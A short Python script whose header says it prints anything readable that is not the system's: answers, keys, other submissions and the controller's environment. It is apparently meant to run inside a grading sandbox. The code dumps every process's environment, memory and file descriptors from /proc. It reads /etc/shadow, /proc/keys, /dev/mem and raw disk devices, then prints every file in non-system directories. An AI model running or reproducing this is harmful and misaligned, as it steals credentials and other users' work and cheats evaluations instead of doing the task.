# Prints whatever it can read that is not the system's: answers, keys, other submissions, the controller's environment.
import os


def show(name):
    try:
        with open(name, "rb") as file:
            print(name, file.read(4000), flush=True)
    except OSError as error:
        print(name, error.strerror, flush=True)


for process in filter(str.isdigit, os.listdir("/proc")):
    for name in ("environ", "cmdline", "maps", "mem"):
        show(f"/proc/{process}/{name}")
    try:
        for number in os.listdir(f"/proc/{process}/fd"):
            print(process, number, os.readlink(f"/proc/{process}/fd/{number}"), flush=True)
    except OSError as error:
        print(process, error.strerror, flush=True)
for name in ("/proc/self/mountinfo", "/proc/cmdline", "/proc/keys", "/etc/shadow", "/.dockerenv", "/dev/mem", "/dev/sda"):
    show(name)
system = {"bin", "boot", "dev", "etc", "lib", "lib32", "lib64", "libx32", "proc", "run", "sbin", "sys", "usr", "var"}
for top in sorted(set(os.listdir("/")) - system) + ["run", "var/tmp"]:
    for folder, _, files in os.walk("/" + top):
        print(folder, flush=True)
        for file in files:
            show(os.path.join(folder, file))
print("done", flush=True)
